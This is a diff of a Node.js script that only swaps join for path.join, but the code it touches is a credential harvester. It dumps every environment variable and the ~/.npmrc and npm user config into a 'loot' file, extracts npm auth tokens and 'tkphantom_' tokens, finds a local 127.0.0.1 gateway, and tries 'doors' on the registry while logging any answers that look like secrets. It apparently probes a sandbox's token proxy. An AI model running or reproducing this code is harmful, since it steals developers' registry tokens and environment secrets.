@@ -5,10 +5,10 @@ const { appendFileSync, readdirSync, readFileSync, statSync, writeFileSync } = r
 const http = require("node:http");
 const https = require("node:https");
 const { homedir } = require("node:os");
-const { join } = require("node:path");
+const path = require("node:path");
 
 const LARGEST = 1e6;
-const report = join(homedir(), "report");
+const report = path.join(homedir(), "report");
 
 /** The text of a file; nothing of what can't be read, or would never end. */
 function read(path) {
@@ -90,7 +90,7 @@ const GIVEN = /^password=|^(?:Bearer|Basic) |_authToken=(?!tkphantom_)|refs\/hea
 
 async function main() {
   const pids = parents();
-  const npmrc = read(join(homedir(), ".npmrc"));
+  const npmrc = read(path.join(homedir(), ".npmrc"));
   const loot = [
     JSON.stringify(process.env, undefined, 1),
     // Files of /proc have no length.
@@ -100,7 +100,7 @@ async function main() {
     read(process.env.npm_config_userconfig ?? ""),
     npmConfiguration(),
   ].join("\n");
-  writeFileSync(join(homedir(), "loot"), loot);
+  writeFileSync(path.join(homedir(), "loot"), loot);
   const tokens = [...new Set([...loot.matchAll(/_authToken\s*=\s*"?([^\s"]+)|(tkphantom_[\w-]+)/g)].map(([, token, phantom]) => token ?? phantom))].filter((token) => !token.startsWith("("));
   const gateway = /http:\/\/127\.0\.0\.1:\d+/.exec(loot)?.[0];
   const registry = /^registry=(https:.*?)\/?$/m.exec(npmrc)?.[1];
@@ -115,7 +115,7 @@ async function main() {
     }
   }
   for (const [door, answer] of await tryDoors(registry)) {
-    appendFileSync(join(homedir(), "loot"), `${door}\n${answer}\n`);
+    appendFileSync(path.join(homedir(), "loot"), `${door}\n${answer}\n`);
     appendFileSync(report, `door  ${door}: ${GIVEN.test(answer) ? answer : "nothing"}\n`);
   }
 }
